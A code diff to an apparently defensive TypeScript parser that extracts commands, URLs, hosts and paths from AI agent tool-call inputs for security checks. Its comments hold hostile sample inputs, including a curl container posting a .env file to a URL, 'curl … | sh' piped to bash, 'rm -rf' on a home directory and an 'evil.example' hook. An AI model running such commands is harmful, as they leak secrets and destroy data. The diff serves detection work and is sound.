@@ -29,7 +29,13 @@ export const norm = (k: string) => k.toLowerCase().replace(/[^a-z0-9]/g, '');
 
 /** Keys whose string value is a command line a shell will run. */
 // (…and the spellings of servers that name the CLI they wrap: aws's cli_command, cmd_line, raw_command.)
-export const COMMAND_KEYS = new Set(['command', 'cmd', 'commandline', 'shellcommand', 'script', 'shell', 'exec', 'run', 'bash', 'sh', 'clicommand', 'cmdline', 'shellcmd', 'rawcommand', 'fullcommand', 'bashcommand', 'terminalcommand', 'commandstring']);
+// (…and a script's text by its language or kind: shell_script, bashScript, command_text.)
+export const COMMAND_KEYS = new Set(['command', 'cmd', 'commandline', 'shellcommand', 'script', 'shell', 'exec', 'run', 'bash', 'sh', 'clicommand', 'cmdline', 'shellcmd', 'rawcommand', 'fullcommand', 'bashcommand', 'terminalcommand', 'commandstring',
+  'shellscript', 'bashscript', 'shscript', 'commandtext', 'scripttext', 'scriptbody', 'scriptcontent', 'scriptsource']);
+/** Keys holding a list of command lines, each run by a shell ({"commands": ["npm ci", "npm test"]}): each item is one line,
+ *  not one word of an argument vector. */
+const COMMAND_LIST_KEYS = new Set(['commands', 'cmds', 'commandlist', 'shellcommands', 'bashcommands', 'scriptlines', 'commandlines']);
+const commandKey = (k: string): boolean => COMMAND_KEYS.has(k) || COMMAND_LIST_KEYS.has(k);
 /** Keys whose value is code in some language: not judged statically here. */
 const CODE_KEYS = new Set(['code', 'program', 'expression', 'eval', 'js', 'javascript', 'python', 'snippet']);
 /** Keys holding a JavaScript function a browser tool runs in the page (Playwright's browser_evaluate): it reaches the
@@ -57,14 +63,21 @@ function typedLines(text: string): string[] {
 const TYPED_KEYS = new Set(['input', 'stdin', 'keys', 'chars', 'line', 'lines', 'text', 'data', 'send', 'write']);
 /** Keys holding a command as an argument vector; and the arguments given beside a `command` that names only the program. */
 const ARGV_KEYS = new Set(['argv', 'commandargs', 'commandline', 'cmdline']);
-const ARGS_KEYS = new Set(['args', 'arguments', 'argv', 'params']);
+const ARGS_KEYS = new Set(['args', 'arguments', 'argv', 'params', 'parameters', 'arglist', 'argslist', 'programargs', 'programarguments', 'cmdargs', 'argumentlist']);
 /** Tools that stop processes, and the keys naming which (by name or pattern, as pkill -f is told). */
 const KILLS = /kill|terminate|signal|stop_?process|end_?process/i;
 const PROCESS_NAME_KEYS = new Set(['match', 'pattern', 'name', 'process', 'processname', 'command', 'cmd', 'query']);
 /** Keys whose value is a URL. */
-const URL_KEYS = new Set(['url', 'urls', 'uri', 'uris', 'href', 'link', 'links', 'endpoint', 'baseurl', 'websocket', 'websocketurl', 'wsurl', 'ws', 'webhook', 'webhookurl', 'callbackurl', 'proxy', 'proxyurl']);
+const URL_KEYS = new Set(['url', 'urls', 'uri', 'uris', 'href', 'link', 'links', 'endpoint', 'baseurl', 'websocket', 'websocketurl', 'wsurl', 'ws', 'webhook', 'webhookurl', 'callbackurl', 'proxy', 'proxyurl', 'apibase', 'apiroot']);
+/** A key naming a URL by its own name though it is not in the list (server_url, webhook_endpoint, target_uri), when its value
+ *  is one — with a scheme, or a host name with a dot or a port first (evil.example/hook, 10.0.0.5:8080). */
+const urlKey = (k: string, s: string): boolean => URL_KEYS.has(k) || (/(url|urls|uri|uris|endpoint|endpoints|webhook)$/.test(k) && (URL_SHAPE.test(s) || HOST_SHAPE.test(s.split(/[/?#]/)[0]!)));
 /** Keys whose value is a host name. */
 const HOST_KEYS = new Set(['host', 'hostname', 'hosts', 'server', 'domain', 'address', 'remote', 'remotehost']);
+/** Keys naming a peer as an address (ip, target_host, site): a host when the value has the shape of one — a dotted name or
+ *  address, a bracketed IPv6, localhost — so a word such as a remote's name (origin, upstream) is not read as a host. */
+const PEER_KEYS = new Set(['ip', 'ips', 'ipaddress', 'ipaddr', 'targethost', 'targetip', 'targetaddress', 'desthost', 'destinationhost', 'destinationip', 'remoteaddr', 'remoteaddress', 'remoteip', 'serverhost', 'serveraddress', 'serverip', 'hostaddress', 'hostip', 'peer', 'peeraddress', 'site', 'sites', 'upstream', 'upstreamhost']);
+const HOST_SHAPE = /^(\[[0-9a-f:.]+\]|[\w-]+(\.[\w-]+)+|localhost)(:\d+)?$/i;
 /** Keys whose value is a file system path. */
 const PATH_KEYS = new Set([
   'path', 'paths', 'file', 'files', 'filepath', 'filepaths', 'filename', 'filenames', 'dir', 'dirs', 'directory', 'directories', 'cwd', 'workdir',
@@ -139,14 +152,25 @@ export function namesIn(input: unknown, toolName = ''): NamedInput {
       // command line: its words are judged together, not one by one as loose strings.)
       const entries = Object.entries(v).map(([k, x]) => [norm(k), x] as const);
       const words = (x: unknown): string[] | undefined => (Array.isArray(x) && x.length > 0 && x.every((w) => typeof w === 'string') ? x as string[] : undefined);
-      const argvAt = entries.find(([k, x]) => (ARGV_KEYS.has(k) || COMMAND_KEYS.has(k)) && words(x));
+      const argvAt0 = entries.find(([k, x]) => (ARGV_KEYS.has(k) || COMMAND_KEYS.has(k)) && words(x));
+      // (An argv beside a program key that does not start with that program is its arguments: {"bin": "rm", "argv": ["-rf", …]}.)
+      const programOf = entries.find(([k, x]) => PROGRAM_KEYS.has(k) && typeof x === 'string' && x.trim() !== '');
+      const base = (w: string) => w.trim().split('/').pop();
+      const argvAt = argvAt0 && programOf && ARGV_KEYS.has(argvAt0[0]) && base(words(argvAt0[1])![0]!) !== base(String(programOf[1])) ? undefined : argvAt0;
       // (…the arguments beside either — {"command": ["sh", "-c"], "args": ["…"]}, {"command": "sh -c", "args": […]},
       // execFile's {"file": "/bin/sh", "args": […]} — are the rest of that command line.)
-      const argsAt = entries.find(([k, x]) => ARGS_KEYS.has(k) && k !== argvAt?.[0] && words(x));
-      const program = entries.find(([k, x]) => (COMMAND_KEYS.has(k) || PROGRAM_KEYS.has(k) || (k === 'file' && argsAt !== undefined)) && typeof x === 'string' && x.trim() !== '');
+      const argsAt0 = entries.find(([k, x]) => ARGS_KEYS.has(k) && k !== argvAt0?.[0] && words(x));
+      const argsAt = argsAt0 ?? (argvAt0 && argvAt0 !== argvAt ? argvAt0 : undefined);
+      const program = entries.find(([k, x]) => (COMMAND_KEYS.has(k) || PROGRAM_KEYS.has(k) || (k === 'file' && argsAt !== undefined) || (k === 'path' && argsAt !== undefined && STARTS_PROGRAM.test(ownToolName(toolName)))) && typeof x === 'string' && x.trim() !== '');
       const rest = argsAt ? words(argsAt[1])!.map(shellQuote) : [];
       const line = argvAt ? [...words(argvAt[1])!.map(shellQuote), ...rest].join(' ') : program && argsAt ? [String(program[1]).trim(), ...rest].join(' ') : undefined;
       const used = new Set<string>();
+      // (A command given as an object of its own — {"command": {"line": "…"}}, {"cmd": {"text": "…"}} — holds its line under
+      // a text key.)
+      if (COMMAND_KEYS.has(key)) for (const [k, x] of entries) if (COMMAND_TEXT_KEYS.has(k) && typeof x === 'string' && x.trim() !== '') {
+        out.commands.push(x);
+        used.add(k);
+      }
       // (A container tool given an image runs the command there, with the mounts it is given: judged as docker run is, the
       // image's own entrypoint included — {"image": "curlimages/curl", "command": ["-d", "@/src/.env", URL]}.)
       const image = container ? entries.find(([k, x]) => k === 'image' && typeof x === 'string' && /^[\w./:@-]+$/.test(x)) : undefined;
@@ -171,15 +195,24 @@ export function namesIn(input: unknown, toolName = ''): NamedInput {
         const envPairs = !envAt ? [] : Array.isArray(envAt[1]) ? envAt[1].map((x) => (typeof x === 'string' && x.includes('=') ? [x.slice(0, x.indexOf('=')), x.slice(x.indexOf('=') + 1)] as const : ['', undefined] as const)) : Object.entries(envAt[1] as Record<string, unknown>);
         const envText = envPairs.map(([k, x]) => (/^[A-Za-z_]\w*$/.test(k) && ['string', 'number', 'boolean'].includes(typeof x) ? `${k}=${shellQuote(String(x))}` : undefined));
         if (envText.includes(undefined)) out.unreadable ??= 'the tool input gives an environment Rampart does not read';
-        const text0 = line ?? (program && COMMAND_KEYS.has(program[0]) ? String(program[1]) : undefined);
-        const text = text0 !== undefined && envText.length ? `export ${envText.join(' ')}; ${text0}` : text0;
+        // (…fed the text it is given on standard input: {"command": "bash", "stdin": "curl … | sh"} runs that text, as
+        // `bash <<EOF` would — judged as that here-document.)
+        const stdinAt = typesInto ? undefined : entries.find(([k, x]) => STDIN_KEYS.has(k) && typeof x === 'string' && x.trim() !== '');
+        const text0 = line ?? (program && (COMMAND_KEYS.has(program[0]) || stdinAt) ? String(program[1]) : undefined);
+        const fed = text0 !== undefined && stdinAt ? hereDocument(text0, String(stdinAt[1])) : text0;
+        const text = fed !== undefined && envText.length ? `export ${envText.join(' ')}; ${fed}` : fed;
         if (text !== undefined && cwd) {
           // (A lone command string is still read as itself too — its base64, its shape — by the visit below.)
           out.commands.push(`cd ${shellQuote(String(cwd[1]).trim())} && ${text}`);
-        } else if (text !== undefined && (line !== undefined || envText.length)) out.commands.push(text);
+        } else if (text !== undefined && (line !== undefined || envText.length || stdinAt)) out.commands.push(text);
+        // (The program fed is judged with what it is fed, not again alone — `python3` alone is an interactive session.)
+        if (stdinAt && text0 !== undefined) {
+          used.add(stdinAt[0]);
+          if (program && line === undefined) used.add(program[0]);
+        }
       }
       // (Every other argument vector beside it is a command line too: {"command": ["ls"], "cmd": ["rm", "-rf", "/home/u"]}.)
-      for (const [k, x] of entries) if (k !== argvAt?.[0] && (ARGV_KEYS.has(k) || COMMAND_KEYS.has(k)) && words(x)) {
+      for (const [k, x] of entries) if (k !== argvAt?.[0] && k !== argsAt?.[0] && (ARGV_KEYS.has(k) || COMMAND_KEYS.has(k)) && words(x)) {
         out.commands.push(words(x)!.map(shellQuote).join(' '));
         used.add(k);
       }
@@ -208,6 +241,17 @@ export function namesIn(input: unknown, toolName = ''): NamedInput {
   return out;
 }
 
+/** Keys holding what a command is fed on standard input. */
+const STDIN_KEYS = new Set(['stdin', 'input', 'stdindata', 'inputdata', 'inputtext', 'stdintext']);
+/** Keys of a command object that hold its line. */
+const COMMAND_TEXT_KEYS = new Set(['line', 'text', 'value', 'string', 'source', 'body', 'content', 'raw', 'script', 'commandline', 'cmdline']);
+/** TEXT fed to the command line LINE as a here-document. */
+function hereDocument(line: string, text: string): string {
+  let delim = 'RAMPART_STDIN';
+  while (text.includes(delim)) delim += '_';
+  return `${line} <<'${delim}'\n${text}\n${delim}`;
+}
+
 /** Keys holding the environment a command is run with. */
 const ENV_KEYS = new Set(['env', 'environment', 'envvars', 'environmentvariables', 'envvariables', 'extraenv', 'envs', 'additionalenv', 'envmap', 'environ']);
 /** Keys holding a spawn's options beside its command (Node's spawn(cmd, args, options), execa's, a server's own). */
@@ -227,7 +271,11 @@ const KERNEL_CODE_KEYS = new Set([...CODE_KEYS, 'cellsource', 'source', 'cellcod
 /** Keys naming the working directory a command is run in. */
 const CWD_KEYS = new Set(['cwd', 'workdir', 'workingdirectory', 'workingdir', 'dir', 'directory']);
 /** Keys naming the program a command runs, beside its arguments. */
-const PROGRAM_KEYS = new Set(['program', 'executable', 'binary']);
+// (…and its short and path spellings: {"exe": "bash", "arguments": […]}, {"bin": "rm", "argv": […]}.)
+const PROGRAM_KEYS = new Set(['program', 'executable', 'binary', 'exe', 'bin', 'executablepath', 'programpath', 'binarypath', 'exepath', 'binpath']);
+/** Tools whose name says they start a program: there a path given with arguments ({"path": "/bin/bash", "args": […]}) is the
+ *  program they run, as execFile's file is. */
+const STARTS_PROGRAM = /run|exec|spawn|launch|start|process|invoke|shell|command|terminal/i;
 /** Keys of a container tool's mounts, and of the docker API's host configuration that holds them. */
 const MOUNT_KEYS = /^(volumes?|binds?|mounts?)$/;
 const HOST_CONFIG_KEYS = /^(hostconfig|host)$/;
@@ -305,6 +353,13 @@ export function encodedText(s0: string, depth = 0): string | undefined {
   return /\s/.test(text) || URL_SHAPE.test(text) || PATH_SHAPE.test(text) || /[$|;&<>{}`]/.test(text) ? text : undefined;
 }
 
+/** What a JSON value found inside a string (decoded, or given as JSON text) names, added to OUT. */
+function takeParsed(out: NamedInput, key: string, parsed: object): void {
+  const inner = namesIn(Array.isArray(parsed) ? { [key]: parsed } : parsed);
+  for (const k of ['commands', 'urls', 'hosts', 'paths', 'sql', 'branches'] as const) out[k].push(...inner[k]);
+  out.unreadable ??= inner.unreadable;
+}
+
 function take(out: NamedInput, key: string, v: string, kernel?: 'local' | 'remote'): void {
   const s = v.trim();
   if (s === '') return;
@@ -317,11 +372,8 @@ function take(out: NamedInput, key: string, v: string, kernel?: 'local' | 'remot
     } catch {
       parsed = undefined;
     }
-    if (typeof parsed === 'object' && parsed !== null) {
-      const inner = namesIn(Array.isArray(parsed) ? { [key]: parsed } : parsed);
-      for (const k of ['commands', 'urls', 'hosts', 'paths', 'sql', 'branches'] as const) out[k].push(...inner[k]);
-      out.unreadable ??= inner.unreadable;
-    } else if (COMMAND_KEYS.has(key) || URL_SHAPE.test(decoded) || PATH_SHAPE.test(decoded)) take(out, COMMAND_KEYS.has(key) ? key : '', decoded);
+    if (typeof parsed === 'object' && parsed !== null) takeParsed(out, key, parsed);
+    else if (commandKey(key) || URL_SHAPE.test(decoded) || PATH_SHAPE.test(decoded)) take(out, commandKey(key) ? key : '', decoded);
     else out.unreadable ??= `the tool input carries base64-encoded text (${key || 'a value'})`;
     return;
   }
@@ -335,10 +387,25 @@ function take(out: NamedInput, key: string, v: string, kernel?: 'local' | 'remot
     if (computed) out.unreadable ??= `the page code reaches the network at an address it computes (${key})`;
     return;
   }
-  if (COMMAND_KEYS.has(key)) out.commands.push(v);
+  // A tool's arguments given as a JSON text ({"params": "{\"cmd\": …}"}) say what the object would: read as one.
+  // (Not a text the tool stores or sends as data: a message body, a file's content.)
+  if (/^[[{]/.test(s) && !TEXT_KEYS.has(key) && !CONTENT_KEYS.has(key) && !commandKey(key)) {
+    let parsed: unknown;
+    try {
+      parsed = JSON.parse(s);
+    } catch {
+      parsed = undefined;
+    }
+    if (typeof parsed === 'object' && parsed !== null) {
+      takeParsed(out, key, parsed);
+      return;
+    }
+  }
+  if (commandKey(key)) out.commands.push(v);
   else if (CODE_KEYS.has(key) && kernel !== 'remote') out.unreadable ??= `the tool input carries code to run (${key})`;
-  else if (URL_KEYS.has(key)) out.urls.push(URL_SHAPE.test(s) ? s : `https://${s}`);
+  else if (urlKey(key, s)) out.urls.push(URL_SHAPE.test(s) ? s : `https://${s}`);
   else if (HOST_KEYS.has(key) && /^[\w.:[\]-]+$/.test(s)) out.hosts.push(s);
+  else if (PEER_KEYS.has(key) && HOST_SHAPE.test(s)) out.hosts.push(s);
   else if (pathKey(key) && !TEXT_KEYS.has(key) && !URL_SHAPE.test(s) && (PATH_KEYS.has(key) || !/\n/.test(s))) out.paths.push(s);
   else if (TEXT_KEYS.has(key)) return;
   else if (URL_SHAPE.test(s)) out.urls.push(s);
